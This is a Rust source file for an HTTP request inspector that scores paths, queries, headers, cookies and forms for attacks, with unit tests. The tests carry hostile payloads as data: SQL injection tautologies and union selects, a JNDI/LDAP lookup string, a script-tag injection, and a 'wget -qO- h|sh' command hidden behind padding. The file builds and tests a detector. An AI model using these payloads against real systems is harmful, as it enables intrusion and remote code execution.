//! The inspector: takes a request apart and looks at each part.

use http::request::Parts;

use super::bytes::{Kinds, has};
use super::inspection::{Inspection, TOO_LONG};
use super::normalise::{Decoded, Oddities};
use super::rule::{Family, Findings, Place, Rule};
use super::value::{all, every};
use super::{code, path, scanner, shell, sql};

static MANY_PARTS: Rule = Rule::new(
    "protocol.many_parts",
    Family::ProtocolAttack,
    10,
    "More names and values with signs in them than are looked at; the rest was not read.",
);

/// As many matches of a request are kept.
const MAX_MATCHES: usize = 32;

/// Of these, as many are free for the part that makes the score.
const MAX_WORST: usize = 8;

/// Looks for attacks in requests. Needs no state, and time in proportion to what it reads, of which
/// it reads a bounded part.
///
/// ```
/// use forge_monitor::{Inspector, Level, Verdict};
///
/// let request = http::Request::get("/search?q=1%27%20or%20%271%27=%271").body(()).unwrap();
/// let (parts, ()) = request.into_parts();
/// let inspection = Inspector::new().inspect(&parts);
/// assert_eq!(inspection.verdict(Level::Low), Verdict::Block);
/// println!("{}", inspection.matches()[0]);
/// ```
#[derive(Clone, Copy, Debug)]
pub struct Inspector {
    max_bytes: usize,
    max_parts: usize,
}

impl Default for Inspector {
    fn default() -> Self {
        Self::new()
    }
}

impl Inspector {
    /// An inspector that reads 64 KiB of a request at most, and 1024 parts that are more than letters
    /// and digits.
    #[must_use]
    pub fn new() -> Self {
        Self {
            max_bytes: 64 * 1024,
            max_parts: 1024,
        }
    }

    /// How many bytes of path, query, headers and form are read, in this order. A longer request
    /// scores 5 for it, so that at [`Level::High`](crate::Level::High) nothing hides behind padding. Default: 64 KiB.
    #[must_use]
    pub fn max_bytes(mut self, bytes: usize) -> Self {
        self.max_bytes = bytes;
        self
    }

    /// How many names and values, of parameters, cookies, headers and fields, are read beyond the first
    /// look at what bytes they are made of; those of letters, digits and `-_.,:@!*^~` do not count. A
    /// request with more is refused at each level, since what was not read may be anything: it fails
    /// closed. The head and the form are counted apart. Default: 1024.
    #[must_use]
    pub fn max_parts(mut self, parts: usize) -> Self {
        self.max_parts = parts;
        self
    }

    /// Looks at the head of a request.
    #[must_use]
    pub fn inspect(&self, parts: &Parts) -> Inspection {
        let mut pass = Pass::new(self);
        pass.path(parts.uri.path().as_bytes());
        if let Some(query) = parts.uri.query() {
            pass.pairs(query.as_bytes(), Place::QueryName, Place::QueryValue);
        }
        for (name, value) in &parts.headers {
            pass.header(name.as_str().as_bytes(), value.as_bytes());
        }
        pass.finish()
    }

    /// Looks at a request of which only the text is there: its target as in the request line, and
    /// headers with names in any case.
    #[must_use]
    pub fn inspect_text<'a>(
        &self,
        target: &[u8],
        headers: impl IntoIterator<Item = (&'a [u8], &'a [u8])>,
    ) -> Inspection {
        let mut pass = Pass::new(self);
        pass.target(target);
        for (name, value) in headers {
            pass.header(&name.to_ascii_lowercase(), value);
        }
        pass.finish()
    }

    /// Looks at the fields of a form, as `application/x-www-form-urlencoded` has them.
    #[must_use]
    pub fn inspect_form(&self, form: &[u8]) -> Inspection {
        let mut pass = Pass::new(self);
        pass.pairs(form, Place::FormName, Place::FormValue);
        pass.finish()
    }
}

/// One look at one request.
struct Pass {
    left: usize,
    parts_left: usize,
    too_many_parts: bool,
    inspection: Inspection,
}

/// Bytes that need no decoding, and from which no attack is made.
const HARMLESS: Kinds = Kinds::PLAIN
    .or(Kinds::UPPER)
    .or(Kinds::COLON)
    .or(Kinds::AT)
    .or(Kinds::OTHER);

impl Pass {
    fn new(inspector: &Inspector) -> Self {
        Self {
            left: inspector.max_bytes,
            parts_left: inspector.max_parts,
            too_many_parts: false,
            inspection: Inspection::default(),
        }
    }

    /// As much of `text` as may still be read.
    fn take<'a>(&mut self, text: &'a [u8]) -> &'a [u8] {
        let taken = text.get(..self.left).unwrap_or(text);
        self.inspection.truncated |= taken.len() < text.len();
        self.left -= taken.len();
        taken
    }

    fn finish(mut self) -> Inspection {
        if self.too_many_parts {
            let mut findings = Findings::default();
            findings.add(&MANY_PARTS, b"", 0);
            self.keep(findings, Place::QueryValue, None);
        }
        if self.inspection.truncated {
            let mut findings = Findings::default();
            findings.add(&TOO_LONG, b"", 0);
            self.keep(findings, Place::Path, None);
        }
        self.inspection
    }

    fn keep(&mut self, findings: Findings, place: Place, name: Option<&[u8]>) {
        if findings.is_empty() {
            return;
        }
        // What makes the score is told, whatever there was before it.
        let worst = findings.score() > self.inspection.score;
        if worst {
            self.inspection.matches.truncate(MAX_MATCHES - MAX_WORST);
        }
        self.inspection.score = self.inspection.score.max(findings.score());
        let left = MAX_MATCHES.saturating_sub(self.inspection.matches.len());
        let matches = findings.into_matches(place, name);
        self.inspection
            .matches
            .extend(matches.into_iter().take(left));
    }

    /// A target as the request line has it: from the root, or with scheme and host.
    fn target(&mut self, target: &[u8]) {
        let origin = match target.windows(3).position(|window| window == b"://") {
            Some(scheme)
                if scheme < 12 && target.iter().take(scheme).all(u8::is_ascii_alphabetic) =>
            {
                let rest = target.get(scheme + 3..).unwrap_or_default();
                let path = rest.iter().position(|byte| matches!(byte, b'/' | b'?'));
                path.and_then(|at| rest.get(at..)).unwrap_or_default()
            }
            _ => target,
        };
        let query = origin.iter().position(|byte| *byte == b'?');
        self.path(
            origin
                .get(..query.unwrap_or(origin.len()))
                .unwrap_or_default(),
        );
        if let Some(query) = query {
            let query = origin.get(query + 1..).unwrap_or_default();
            self.pairs(query, Place::QueryName, Place::QueryValue);
        }
    }

    fn path(&mut self, path: &[u8]) {
        let path = self.take(path);
        let kinds = Kinds::of(path);
        let mut findings = Findings::default();
        let plain = Kinds::PLAIN
            .or(Kinds::SLASH)
            .or(Kinds::DOT)
            .or(Kinds::COLON)
            .or(Kinds::AT)
            .or(Kinds::PLUS)
            .or(Kinds::OTHER);
        if kinds.only(plain) {
            path::inspect(path, kinds, Place::Path, Oddities::default(), &mut findings);
            scanner::path(path, &mut findings);
        } else {
            let decoded = Decoded::of(path, false);
            let text = decoded.fully.as_deref().unwrap_or(&decoded.once);
            scanner::path(text, &mut findings);
            all(&decoded, Place::Path, &mut findings);
        }
        self.keep(findings, Place::Path, None);
    }

    /// `name=value` pairs, set apart by ampersands.
    fn pairs(&mut self, text: &[u8], name_place: Place, value_place: Place) {
        let text = self.take(text);
        for pair in text.split(|byte| *byte == b'&') {
            let (name, value) = split_once(pair, b'=');
            if let Some(value) = value {
                self.value(value, true, value_place, Some(name));
                // Only an address is long enough.
                if value.len() > 8 && matches!(value.first(), Some(b'h' | b'f' | b'H' | b'F')) {
                    let mut findings = Findings::default();
                    path::inspect_include(name, value, &mut findings);
                    self.keep(findings, value_place, Some(name));
                }
            }
            self.value(name, true, name_place, None);
        }
    }

    fn header(&mut self, name: &[u8], value: &[u8]) {
        let text = self.take(value);
        match name {
            b"user-agent" => self.user_agent(text),
            b"referer" => self.referer(text),
            b"cookie" => self.cookies(text),
            // Credentials are in an alphabet of their own, and belong into no report.
            b"authorization" | b"proxy-authorization" => {}
            _ if has_own_grammar(name) => {
                let kinds = Kinds::of(text);
                if kinds.any(Kinds::BRACE) {
                    let mut findings = Findings::default();
                    let text = text.to_ascii_lowercase();
                    code::inspect_lookups(&text, &mut findings);
                    if kinds.any(Kinds::PAREN) {
                        shell::inspect_functions(&text, &mut findings);
                    }
                    self.keep(findings, Place::Header, Some(name));
                }
            }
            _ => {
                // `X-Filename`, `X-File-Name`, `X.Filename`
                let letters = name.iter().filter(|byte| byte.is_ascii_alphabetic());
                if name.first() == Some(&b'x') && letters.eq(b"xfilename") {
                    let mut findings = Findings::default();
                    code::inspect_file_name(&text.to_ascii_lowercase(), &mut findings);
                    self.keep(findings, Place::Header, Some(name));
                }
                self.value(text, false, Place::Header, Some(name));
            }
        }
    }

    fn user_agent(&mut self, text: &[u8]) {
        let kinds = Kinds::of(text);
        let mut findings = Findings::default();
        scanner::user_agent(text, &mut findings);
        let usual = Kinds::PLAIN
            .or(Kinds::UPPER)
            .or(Kinds::SPACE)
            .or(Kinds::SLASH)
            .or(Kinds::DOT)
            .or(Kinds::PAREN)
            .or(Kinds::SEMICOLON)
            .or(Kinds::COLON)
            .or(Kinds::PLUS)
            .or(Kinds::AT)
            .or(Kinds::OTHER)
            .or(Kinds::HASH);
        if !kinds.only(usual) {
            let decoded = Decoded::of(text, false);
            all(&decoded, Place::UserAgent, &mut findings);
        }
        self.keep(findings, Place::UserAgent, None);
    }

    /// The address of a page: its path, and its query by parameters.
    fn referer(&mut self, text: &[u8]) {
        let (page, query) = split_once(text, b'?');
        let usual = HARMLESS.or(Kinds::SLASH).or(Kinds::PLUS).or(Kinds::DOT);
        let climbs = has(page, b"..");
        if climbs || !Kinds::of(page).only(usual) {
            self.value(page, false, Place::Referer, None);
        }
        for pair in query.unwrap_or_default().split(|byte| *byte == b'&') {
            let (name, value) = split_once(pair, b'=');
            if let Some(value) = value {
                self.value(value, true, Place::Referer, Some(name));
            }
            self.value(name, true, Place::Referer, None);
        }
    }

    fn cookies(&mut self, text: &[u8]) {
        for pair in text.split(|byte| *byte == b';') {
            let (name, value) = split_once(pair.trim_ascii(), b'=');
            if let Some(value) = value {
                self.value(value, true, Place::Cookie, Some(name));
            }
            self.value(name, true, Place::Cookie, None);
        }
    }

    /// Takes note of a part that is read; false where there were too many.
    fn part(&mut self) -> bool {
        let left = self.parts_left.checked_sub(1);
        self.parts_left = left.unwrap_or(0);
        self.too_many_parts |= left.is_none();
        left.is_some()
    }

    fn value(&mut self, value: &[u8], plus: bool, place: Place, name: Option<&[u8]>) {
        let kinds = Kinds::of(value);
        if kinds.only(HARMLESS) {
            // Letters and digits alone: a name by itself may tell still.
            if tells_by_itself(value, kinds) && self.part() {
                let mut findings = Findings::default();
                let lower = value.to_ascii_lowercase();
                every(&lower, kinds, place, Oddities::default(), &mut findings);
                self.keep(findings, place, name);
            }
            return;
        }
        if !self.part() {
            return;
        }
        let mut findings = Findings::default();
        let decoded = Decoded::of(value, plus);
        all(&decoded, place, &mut findings);
        self.keep(findings, place, name);
    }
}

/// Whether a value without signs is worth a look: it may be the name of a command or a table.
fn tells_by_itself(value: &[u8], kinds: Kinds) -> bool {
    // Colons make addresses of scripts and conversions of SQL.
    kinds.any(Kinds::COLON) && value.windows(2).any(|pair| pair == b"::")
        || (4..=24).contains(&value.len())
            && (value.starts_with(b"__") || sql::is_system_name(value) || shell::is_command(value))
}

/// Headers whose values are for software and have quotation marks, semicolons and equals signs by
/// their own grammar.
fn has_own_grammar(name: &[u8]) -> bool {
    name.starts_with(b"accept")
        || name.starts_with(b"sec-")
        || name.starts_with(b"if-")
        || name.starts_with(b"content-")
        || name.starts_with(b"access-control-")
        || matches!(
            name,
            b"host"
                | b"connection"
                | b"cache-control"
                | b"pragma"
                | b"date"
                | b"dnt"
                | b"expect"
                | b"forwarded"
                | b"keep-alive"
                | b"origin"
                | b"priority"
                | b"range"
                | b"te"
                | b"trailer"
                | b"traceparent"
                | b"tracestate"
                | b"baggage"
                | b"transfer-encoding"
                | b"upgrade"
                | b"upgrade-insecure-requests"
                | b"via"
                | b"link"
                | b"prefer"
                | b"signature"
                | b"signature-input"
                | b"digest"
                | b"cdn-loop"
                | b"report-to"
                | b"nel"
        )
}

fn split_once(text: &[u8], at: u8) -> (&[u8], Option<&[u8]>) {
    match text.iter().position(|byte| *byte == at) {
        Some(found) => (text.get(..found).unwrap_or_default(), text.get(found + 1..)),
        None => (text, None),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::level::{Level, Verdict};
    use crate::inspect::rule::Match;

    fn of(target: &str) -> Inspection {
        Inspector::new().inspect_text(target.as_bytes(), [])
    }

    #[test]
    fn finds_in_each_place_and_names_it() {
        let attack = "1'%20or%20'1'='1";
        for (target, place) in [
            (format!("/a?b={attack}"), Place::QueryValue),
            (
                format!("/a?{}", attack.replace('=', "%3d")),
                Place::QueryName,
            ),
            (format!("/{attack}"), Place::Path),
            (format!("http://h/a?b={attack}"), Place::QueryValue),
        ] {
            let inspection = of(&target);
            assert_eq!(inspection.verdict(Level::Low), Verdict::Block, "{target}");
            assert_eq!(inspection.matches()[0].place, place, "{target}");
        }
        for (name, value, place) in [
            ("cookie", format!("a=b; c={attack}"), Place::Cookie),
            ("referer", format!("http://h/?b={attack}"), Place::Referer),
            ("user-agent", "x' or 'a'='a".to_owned(), Place::UserAgent),
            ("x-api", attack.to_owned(), Place::Header),
            ("accept", "${jndi:ldap://h/a}".to_owned(), Place::Header),
        ] {
            let headers = [(name.as_bytes(), value.as_bytes())];
            let inspection = Inspector::new().inspect_text(b"/", headers);
            assert_eq!(inspection.verdict(Level::Low), Verdict::Block, "{name}");
            assert_eq!(inspection.matches()[0].place, place, "{name}");
        }
    }

    #[test]
    fn the_score_is_that_of_the_worst_part() {
        let one = of("/a?b=%3Cb%3Ex%3C/b%3E");
        let many = of(&format!("/a?{}", "b=%3Cb%3Ex%3C/b%3E&".repeat(20)));
        assert_eq!(one.score(), many.score());
        assert!(one.score() < Level::Low.threshold());
        assert!(many.matches().len() <= MAX_MATCHES);
    }

    #[test]
    fn what_is_longer_than_inspected_scores_for_it() {
        let inspector = Inspector::new().max_bytes(64);
        let target = format!("/a?b={}&c=1'%20or%20'1'='1", "x".repeat(100));
        let inspection = inspector.inspect_text(target.as_bytes(), []);
        assert!(inspection.is_truncated());
        assert_eq!(inspection.verdict(Level::High), Verdict::Block);
        assert_eq!(inspection.verdict(Level::Low), Verdict::Pass);
        assert!(!inspector.inspect_text(b"/a", []).is_truncated());
    }

    #[test]
    fn more_parts_than_are_read_are_refused_and_cost_no_more() {
        let parts = |count: usize| format!("/?{}", "a=%27&".repeat(count));
        let within = of(&parts(1000));
        assert_eq!(within.verdict(Level::High), Verdict::Pass);
        let beyond = of(&parts(1025));
        assert_eq!(beyond.verdict(Level::Low), Verdict::Block);
        assert_eq!(beyond.matches()[0].rule, "protocol.many_parts");
        // Letters and digits are no part that is read.
        assert_eq!(of(&format!("/?{}", "ab=cd&".repeat(10_000))).score(), 0);
        let few = Inspector::new().max_parts(2);
        let hidden = few.inspect_text(b"/?a=%27&b=%27&c=1'%20or%20'1'='1", []);
        assert_eq!(hidden.verdict(Level::Low), Verdict::Block);
        // The third was not read.
        let rules: Vec<_> = hidden.matches().iter().map(|found| found.rule).collect();
        assert_eq!(rules, ["protocol.many_parts"]);
    }

    #[test]
    fn the_worst_part_is_explained_behind_many_others() {
        let target = format!("/?{}c=1'%20or%20'1'='1", "b=%3Cb%3Ex%3C/b%3E&".repeat(40));
        let inspection = of(&target);
        let named = |found: &Match| found.rule == "sql.tautology";
        assert!(inspection.matches().iter().any(named));
        assert!(inspection.matches().len() <= MAX_MATCHES);
    }

    #[test]
    fn padding_hides_nothing() {
        let statement = format!(
            "/?q=1{}%20union%20select%20a%20from%20b",
            "%20and%201".repeat(400)
        );
        assert_eq!(of(&statement).verdict(Level::Low), Verdict::Block);
        let string = format!("/?q=x'{}%20union%20select%201", ",a".repeat(2000));
        assert_eq!(of(&string).verdict(Level::Low), Verdict::Block);
        let tags = format!("/?q={}%3Cscript%20src=//h%3E", "%3C+".repeat(64));
        assert_eq!(of(&tags).verdict(Level::Low), Verdict::Block);
        let commands = format!("/?q={}wget%20-qO-%20h|sh", ":;".repeat(300));
        assert_eq!(of(&commands).verdict(Level::High), Verdict::Block);
    }

    #[test]
    fn credentials_are_not_looked_at() {
        let headers = [(&b"authorization"[..], &b"Bearer ' or '1'='1"[..])];
        assert_eq!(Inspector::new().inspect_text(b"/", headers).score(), 0);
    }
}
